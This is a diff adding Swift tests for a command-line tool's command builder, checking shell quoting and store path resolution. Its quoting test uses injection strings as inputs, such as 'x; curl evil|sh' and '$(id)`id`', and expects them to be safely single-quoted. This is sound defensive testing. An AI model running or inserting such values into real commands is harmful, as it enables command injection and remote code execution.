@@ -17,6 +17,37 @@ import Testing
     #expect(ProgramCommands(arguments: arguments)("backups") == expected)
   }
 
+  @Test(
+    arguments: [
+      ("20261122T064512.347Z-5f3a9c10", "20261122T064512.347Z-5f3a9c10"), ("x; curl evil|sh", "'x; curl evil|sh'"),
+      ("$(id)`id`\n", "'$(id)`id`\n'"), ("it's", #"'it'\''s'"#), ("", "''"),
+    ] as [(String, String)])
+  func `what comes from elsewhere is one word`(value: String, expected: String) {
+    #expect(ProgramCommands()("deliveries replay", value) == "dailve deliveries replay \(expected)")
+  }
+
+  @Test(
+    arguments: [
+      (["undo", "3"], "undo --store /xdg/dailve"),
+      (["serve", "--store", "data"], "undo --store /home/me/data"),
+      (["serve", "--store=../data", "--port", "9"], "undo --store /home/me/../data"),
+      (["serve", "--store", "/srv/health"], "undo --store /srv/health"),
+      (["serve", "--store", "~/health"], "undo --store '~/health'"),
+      (["samples", "--", "--store"], "undo --store /xdg/dailve"),
+      ([], "undo"),
+    ] as [([String], String)])
+  func `a command means the same store in another folder and environment`(arguments: [String], expected: String) {
+    let commands = ProgramCommands(arguments: arguments, store: "/xdg/dailve", from: "/home/me")
+    #expect(commands("undo") == "dailve " + expected)
+  }
+
+  @Test func `a server is started again with the files that it has, from any folder`() {
+    let arguments = ["serve", "--store", "a", "--tls-cert", "c.pem", "--tls-key=/k.pem", "--backups", "b"]
+    #expect(
+      ProgramCommands(arguments: arguments, store: nil, from: "/m").serving("--ingest-listen", "[::]:1")
+        == "dailve serve --store /m/a --tls-cert /m/c.pem --tls-key=/k.pem --backups /m/b --ingest-listen '[::]:1'")
+  }
+
   @Test func `the server is suggested at the port in use`() {
     let commands = ProgramCommands(arguments: ["doctor", "--port", "9000", "--store", "/a", "--json"])
     #expect(commands("serve", carrying: ["--store", "--host", "--port"]) == "dailve serve --store /a --port 9000")
